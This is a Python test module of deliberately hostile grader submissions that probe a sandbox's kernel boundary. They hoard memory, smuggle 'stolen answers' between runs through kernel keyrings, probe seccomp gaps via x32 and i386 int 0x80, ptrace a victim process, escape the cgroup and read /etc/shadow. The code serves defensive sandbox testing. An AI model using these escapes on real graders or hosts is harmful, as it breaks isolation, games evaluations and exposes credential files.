"""Hostile submissions against the kernel boundary (see test_kernel.py).

Each is the same honest work as attacks.py (MLP done, 3 points) plus an attack that runs when a
probe builds a MySequential and that reports what it got through an exception message,
`TAG {json}`, which the tests read back from the feedback. Only run in the namespace modes.
"""

from __future__ import annotations

import textwrap

from .attacks import NAMESPACES, Attack, _seq

REPORT = """
import json as _json

def _report(tag, found):
    raise RuntimeError(tag + " " + _json.dumps(found, sort_keys=True))
"""

# forty 64 MB memfds (2.5 GB) against the batch's 256 MB; where memfd is refused, what a hoarder
# falls back to: files on /dev/shm (a tmpfs the watchdog's sampling does not see)
MEMFD_HOARD = """
import os
got, how, held = 0, "memfd", []
chunk = b"x" * 2**20
try:
    for _ in range(40):
        fd = os.memfd_create("hoard")
        for _ in range(64):
            os.write(fd, chunk)
        held.append(fd)
        got += 64
except OSError as exc:
    how = "memfd refused: " + exc.strerror
    try:
        with open("/dev/shm/hoard", "wb") as f:
            for _ in range(4096):
                f.write(chunk)
                f.flush()
                got += 1
    except OSError:
        pass
_report("HOARD", {"mb": got, "how": how})
"""

KEY_DESCRIPTION = "blockgrade-carry-{marker}"

KEY_PLANT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
planted = []
for name, ring in (("thread", -1), ("process", -2), ("session", -3), ("user", -4), ("user-session", -5)):
    key = libc.syscall(248, b"user", b"{description}", b"stolen answers", 14, ring)  # add_key
    if key >= 0:
        planted.append(name)
_report("KEYS", {{"planted": planted, "errno": ctypes.get_errno()}})
"""

KEY_READ = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = []
for name, ring in (("session", -3), ("user", -4), ("user-session", -5)):
    key = libc.syscall(250, 10, ring, b"user", b"{description}", 0)  # keyctl(KEYCTL_SEARCH)
    if key >= 0:
        found.append(name)
key = libc.syscall(249, b"user", b"{description}", None, 0)  # request_key
if key >= 0:
    found.append("request_key")
_report("KEYS", {{"found": found, "errno": ctypes.get_errno()}})
"""

# Each entry reaches the kernel's implementation unless it fails with EPERM, ENOSYS or
# EAFNOSUPPORT (what the seccomp filter answers): an EINVAL or EACCES means the kernel looked.
SURFACES = """
import ctypes, errno, mmap, os, signal, socket, time
libc = ctypes.CDLL(None, use_errno=True)
BLOCKED = (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT)
reached = []

def sys(nr, *args):
    result = libc.syscall(nr, *args)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def attempt(name, fn):
    try:
        fn()
    except OSError as exc:
        if exc.errno in BLOCKED:
            return
    reached.append(name)

def in_child(fn):
    # run fn in a throwaway child, so that a namespace it enters does not stay with this process
    pid = os.fork()
    if pid == 0:
        try:
            fn()
            os._exit(0)
        except OSError as exc:
            os._exit(exc.errno if exc.errno < 250 else 1)
        except BaseException:
            os._exit(1)
    status = os.waitpid(pid, 0)[1]
    code = os.waitstatus_to_exitcode(status)
    if code:
        raise OSError(code, "in the child")

params = ctypes.create_string_buffer(256)
victim = os.fork()
if victim == 0:
    os.execvp("sleep", ["sleep", "{marker}"])
time.sleep(0.2)
try:
    attempt("memfd_create", lambda: os.close(os.memfd_create("x")))
    attempt("io_uring_setup", lambda: os.close(sys(425, 1, params)))
    attempt("bpf", lambda: sys(321, 0, params, 72))
    attempt("perf_event_open", lambda: sys(298, params, 0, -1, -1, 0))
    attempt("userfaultfd", lambda: os.close(sys(323, 1)))
    attempt("keyctl", lambda: sys(250, 0, -3, 0))
    attempt("ptrace-attach", lambda: sys(101, 16, victim, 0, 0))
    attempt("process_vm_readv", lambda: sys(310, victim, params, 1, params, 1, 0))
    attempt("pidfd_getfd", lambda: sys(438, sys(434, victim, 0), 0, 0))
    attempt("kcmp", lambda: sys(312, os.getpid(), victim, 0, 0, 0))
    attempt("unshare-user", lambda: in_child(lambda: sys(272, 0x10000000)))
    def user_and_mount():
        sys(272, 0x10000000 | 0x20000)  # unshare(CLONE_NEWUSER | CLONE_NEWNS), then mount a tmpfs
        sys(165, b"none", b"/tmp", b"tmpfs", 0, None)
    attempt("unshare-user-mount", lambda: in_child(user_and_mount))
    attempt("clone-newuser", lambda: in_child(lambda: sys(56, 0x10000000 | 17, 0, 0, 0, 0) == 0 and os._exit(0)))
    attempt("clone3", lambda: sys(435, 0, 0))
    attempt("setns", lambda: sys(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0))
    attempt("mount", lambda: sys(165, b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("fsopen", lambda: sys(430, b"tmpfs", 0))
    attempt("open_tree", lambda: sys(428, -100, b"/", 1))
    attempt("name_to_handle_at", lambda: sys(303, -100, b"/", params, params, 0))
    attempt("socket-alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET, 0).close())
    attempt("socket-packet", lambda: socket.socket(17, socket.SOCK_RAW, 0).close())
    attempt("socket-vsock", lambda: socket.socket(40, socket.SOCK_STREAM, 0).close())
    attempt("tiocsti", lambda: sys(16, 1, 0x5412, ctypes.c_char_p(b"x")))
    attempt("tiocsti-high-bits", lambda: sys(16, 1, 0x100005412, ctypes.c_char_p(b"x")))
    attempt("x32-memfd", lambda: sys(0x40000000 | 319, b"x", 0))
    # i386's system calls through int 0x80 (a filter written for x86_64's numbers would let
    # them by): getpid, then unshare(CLONE_NEWUSER) as i386 numbers them (20, 310)
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes([0x53, 0xB8, 20, 0, 0, 0, 0x31, 0xDB, 0xCD, 0x80, 0x5B, 0xC3]))
    i386_getpid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if i386_getpid() > 0:
        reached.append("i386-int80")
    def escape_cgroup():
        line = [l for l in open("/proc/self/cgroup").read().splitlines() if ":memory:" in l or l.startswith("0::")][0]
        path = line.split(":", 2)[2]
        parent = os.path.dirname(path.rstrip("/"))
        for top in ("/sys/fs/cgroup/memory", "/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
            target = top + parent + "/cgroup.procs"
            if os.path.exists(target):
                with open(target, "w") as f:
                    f.write(str(os.getpid()))
                return
        raise OSError(errno.EPERM, "no cgroup file")
    try:
        escape_cgroup()
        reached.append("cgroup-escape")
    except OSError:
        pass
finally:
    os.kill(victim, signal.SIGKILL)
    os.waitpid(victim, 0)
_report("SURFACES", {{"reached": reached}})
"""

SHADOW = """
import os
try:
    with open("/etc/shadow") as f:
        got = f.read()[:12]
except OSError as exc:
    got = None
with open("/proc/self/uid_map") as f:
    mapping = f.read().split()
_report("SHADOW", {"read": got is not None, "uid": os.getuid(), "uid_map": mapping})
"""


def kernel_attacks(marker: str) -> list[Attack]:
    description = KEY_DESCRIPTION.format(marker=marker.replace(".", "-"))

    def seq(body: str) -> str:
        return REPORT + _seq(textwrap.dedent(body))

    return [
        Attack("kernel-memfd-hoard", seq(MEMFD_HOARD), modes=NAMESPACES),
        Attack("kernel-keyring-1-plant", seq(KEY_PLANT.format(description=description)), modes=NAMESPACES),
        Attack("kernel-keyring-2-read", seq(KEY_READ.format(description=description)), modes=NAMESPACES),
        Attack("kernel-surfaces", seq(SURFACES.format(marker=marker)), modes=NAMESPACES),
        Attack("kernel-read-shadow", seq(SHADOW), modes=NAMESPACES),
    ]
